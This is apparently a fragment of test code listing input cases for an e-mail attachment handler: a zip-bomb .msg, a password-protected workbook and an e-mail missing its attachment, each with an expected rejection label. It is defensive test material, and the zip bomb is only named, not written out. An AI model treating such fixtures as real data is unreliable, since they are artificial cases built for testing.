    Kind("msg-bomb", "an Outlook .msg whose attachment is a zip bomb", "unsafe-workbook", False, _outlook_msg_with_bomb),
    Kind("mail-encrypted", "an e-mail with a password-protected workbook", "encrypted-workbook", False, _mail([("svar.xlsx", _encrypted)])),
    Kind("mail-no-attachment", "an e-mail without its attachment", "no-attachment", False, _mail([])),
]
